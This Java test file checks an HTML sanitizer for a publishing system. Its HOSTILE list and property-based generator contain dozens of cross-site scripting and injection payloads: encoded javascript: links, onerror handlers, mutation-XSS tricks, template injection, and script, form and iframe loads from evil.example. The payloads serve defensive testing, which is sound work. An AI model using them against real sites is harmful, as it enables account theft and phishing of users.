package org.zaedno.content.publication;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;

/** What a hostile or careless editor may paste, and what is left of it. */
class RichTextTest {
    private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z0-9-]*)([^>]*)>");
    private static final Pattern ALLOWED = Pattern.compile(
            "p|br|h[234]|ul|ol|li|blockquote|strong|em|b|i|u|sup|sub|table|caption|thead|tbody|tr|th|td|a");
    private static final Pattern ATTRIBUTES = Pattern.compile(
            "( href=\"(https?:|mailto:|tel:)[^\"<>]*\"( rel=\"nofollow noopener\")?| href=\"[^\":<>]*\"( rel=\"nofollow noopener\")?|( (col|row)span=\"[1-9][0-9]?\")+)?( /)?");

    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<p onclick=\"alert(1)\" onmouseover='alert(1)' style=\"position:fixed\" class=x id=y>text</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java&#10;script:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"vbscript:x\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=\"https://example.org/\" target=_blank onclick=alert(1)>x</a>",
            "<a href='https://example.org/\"onmouseover=\"alert(1)'>x</a>",
            "<style>body{display:none}</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example/>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe src=//evil.example></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=x></object><embed src=x><applet code=x></applet>",
            "<form action=//evil.example><input name=password><button>x</button></form>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea></p><script>alert(1)</script>",
            "<title></title><xmp><img src=x onerror=alert(1)></xmp>",
            "<!--><script>alert(1)</script>-->",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><?php system('x') ?>",
            "<p><b><i><p></b><td>unclosed",
            "</p></div></body></html>",
            "<p",
            "<p title=\"",
            "<<p>>text<</p>>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;",
            "&#60;script&#62;alert(1)",
            "<td colspan=\"javascript:alert(1)\">x</td>",
            "<td colspan=\"99999\">x</td>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
            "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %> @{7*7}",
            "<vaadin-button onclick=alert(1)>x</vaadin-button><trix-editor></trix-editor>",
            "<div contenteditable data-trix-attachment='{\"content\":\"<img src=x onerror=alert(1)>\"}'>x</div>",
            "<ul>".repeat(2_000) + "x",
            "<a href='https://example.org'>".repeat(500),
            "<".repeat(5_000),
            "&".repeat(5_000));

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void nothing_that_could_act_is_left(String html) {
        assertHarmless(RichText.clean(html));
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void cleaning_again_changes_nothing(String html) {
        var once = RichText.clean(html);

        assertThat(RichText.clean(once)).isEqualTo(once);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "<p>Текст с <strong>важно</strong> и <em>тихо</em></p> | <p>Текст с <strong>важно</strong> и <em>тихо</em></p>",
                "<h1>Голямо</h1><h2>Средно</h2> | Голямо<h2>Средно</h2>",
                "<ul><li>едно</li><li>две</li></ul> | <ul><li>едно</li><li>две</li></ul>",
                "<a href=\"/bg/news\">вътре</a> | <a href=\"/bg/news\" rel=\"nofollow noopener\">вътре</a>",
                "<a href=\"https://example.org/a?b=1&amp;c=2\">вън</a> | <a href=\"https://example.org/a?b&#61;1&amp;c&#61;2\" rel=\"nofollow noopener\">вън</a>",
                "<div>див<span>спан</span></div> | дивспан",
                "<p>1 < 2 & 3 > 2</p> | <p>1 &lt; 2 &amp; 3 &gt; 2</p>"
            })
    void what_an_editor_means_is_kept(String typed, String kept) {
        assertThat(RichText.clean(typed)).isEqualTo(kept);
    }

    @Test
    void tables_are_kept_with_their_spans() {
        var table =
                "<table><caption>Деца</caption><thead><tr><th colspan=\"2\">Година</th></tr></thead><tbody><tr><td>2017</td><td>43</td></tr></tbody></table>";

        assertThat(RichText.clean(table)).isEqualTo(table);
    }

    @Property(tries = 400)
    void whatever_is_pasted_becomes_harmless_and_stays_as_it_is(@ForAll("pasted") String html) {
        var once = RichText.clean(html);

        assertHarmless(once);
        assertThat(RichText.clean(once)).isEqualTo(once);
    }

    @Property(tries = 400)
    void a_text_read_back_from_the_database_is_the_text_that_was_stored(@ForAll("pasted") String html) {
        var stored = new EditionText("t", html.length() > EditionText.LEAD_MAX ? "" : html, html);

        assertThat(new EditionText(stored.title(), stored.lead(), stored.body()))
                .isEqualTo(stored);
    }

    @Provide
    Arbitrary<String> pasted() {
        var pieces = Arbitraries.of(
                "<",
                ">",
                "\"",
                "'",
                "&",
                ";",
                "=",
                "/",
                " ",
                "\n",
                "<p>",
                "</p>",
                "<p ",
                "<script>",
                "</script>",
                "<!--",
                "-->",
                "<a href=",
                "\"javascript:alert(1)\"",
                "\"https://example.org\"",
                "\"/bg\"",
                ">x</a>",
                "onerror=alert(1)",
                "<img src=x ",
                "<svg>",
                "<style>",
                "</style>",
                "<table>",
                "<td colspan=\"2\">",
                "<li>",
                "<ul>",
                "</ul>",
                "<br>",
                "&lt;",
                "&amp;",
                "&#60;",
                "&#x3c;",
                "&nbsp;",
                "&#0;",
                "текст",
                "🧶",
                "\u0000",
                "\u202E",
                "\uD800",
                "<![CDATA[",
                "]]>",
                "<noscript>",
                "<textarea>",
                "<title>",
                "<math>",
                "<iframe srcdoc=",
                "<h2>",
                "<b>",
                "</b>");
        return pieces.list().ofMaxSize(30).map(list -> String.join("", list));
    }

    private static void assertHarmless(String html) {
        var tags = TAG.matcher(html)
                .results()
                .filter(tag -> !tag.group().equals("<!-- -->")) // parts two braces that a script might take for its own
                .toList();
        assertThat(tags).allSatisfy(tag -> {
            assertThat(tag.group(2)).as(tag.group()).matches(ALLOWED);
            assertThat(tag.group(3)).as(tag.group()).matches(ATTRIBUTES);
        });
        assertThat(TAG.matcher(html).replaceAll("")).doesNotContain("<", ">");
    }
}
